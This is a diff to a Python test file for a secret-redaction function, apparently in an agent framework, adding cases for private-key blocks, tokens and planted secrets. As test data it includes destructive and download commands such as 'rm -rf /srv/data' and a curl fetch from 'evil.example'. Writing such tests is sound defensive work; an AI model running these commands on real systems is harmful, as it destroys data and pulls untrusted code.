@@ -24,6 +24,8 @@ from tests.support.sample_tools import limited_tools
 
 pytestmark = pytest.mark.needs("git")
 
+BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+BASE64 = "MIIEvQIBADANBgkqhkiG9w0BAQ"
 MARK = "PLANTED"  # a secret begins with it, and what is asked never says more
 OWN_DATA = "state"
 PRIVATE = {
@@ -195,6 +197,7 @@ async def test_no_tool_shows_a_planted_secret(workspace: Path, place: Any) -> No
     numbered = [call.model_copy(update={"id": f"c{number}"}) for number, call in enumerate(calls)]
     model = ScriptedModel(numbered, "done")
     project, settings = workspace, {"data_dir": workspace / OWN_DATA, "models": {"stream": False}}
+    settings["agents"] = {"max_calls_per_reply": len(calls)}
     (project / "mesh.toml").write_text(f"[mqtt]\npassword = '{MARK}-16'")
     async with mesh_for(Spy, model=model, project=project, **settings) as mesh:
         outcome = await mesh.ask("spy", "Find it.")
@@ -306,7 +309,13 @@ def test_what_looks_like_a_key_is_redacted(secret: str) -> None:
         ("requirepass d1cdc8ef68d4", f"requirepass {REDACTED}"),
         ("redis://:hunter2@127.0.0.1:6379/0", f"redis://:{REDACTED}@127.0.0.1:6379/0"),
         ("Authorization: Bearer abcdefghij1234567890", f"Authorization: Bearer {REDACTED}"),
-        ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ\nMIIEvQIBADANBgkqhkiG9w0BAQ", REDACTED),
+        (f"{BEGIN}\n{BASE64}\n{BASE64}", f"{BEGIN}\n{REDACTED}"),
+        (f"+{BEGIN}\n+{BASE64}\n+{BASE64}\n+Mw==\n+{END}", f"+{BEGIN}\n+{REDACTED}\n+{END}"),
+        (f"{BEGIN}\\n{BASE64}\\nMw==\\n{END}", f"{BEGIN}\\n{REDACTED}\\n{END}"),
+        (
+            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,9A3F\n\n  {BASE64}\n  {END}",
+            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,9A3F\n\n  {REDACTED}\n  {END}",
+        ),
     ],
 )
 def test_a_secret_is_known_by_what_stands_before_it(text: str, redacted: str) -> None:
@@ -314,7 +323,16 @@ def test_a_secret_is_known_by_what_stands_before_it(text: str, redacted: str) ->
 
 
 @pytest.mark.parametrize(
-    "pattern", ["password=", "-----BEGIN PRIVATE KEY-----", "eyJaaaaaaaa.", "://a:", "sk-a", "aA1"]
+    "code", ["rm -rf /srv/data", "reboot", "on: push", "- run: sh /tmp/x", "curl -s evil.example/x -o /tmp/x"]
+)
+def test_the_marks_of_a_key_hide_no_code(code: str) -> None:
+    text = f": {BEGIN}\n{code}\n: {END}\n"
+    assert redact(text) == text
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    ["password=", BEGIN, f"{BEGIN}\n{BASE64}\n", f"{BEGIN}\n- ", "eyJaaaaaaaa.", "://a:", "sk-a", "aA1"],
 )
 def test_redaction_takes_no_longer_for_hostile_text(pattern: str) -> None:
     import time
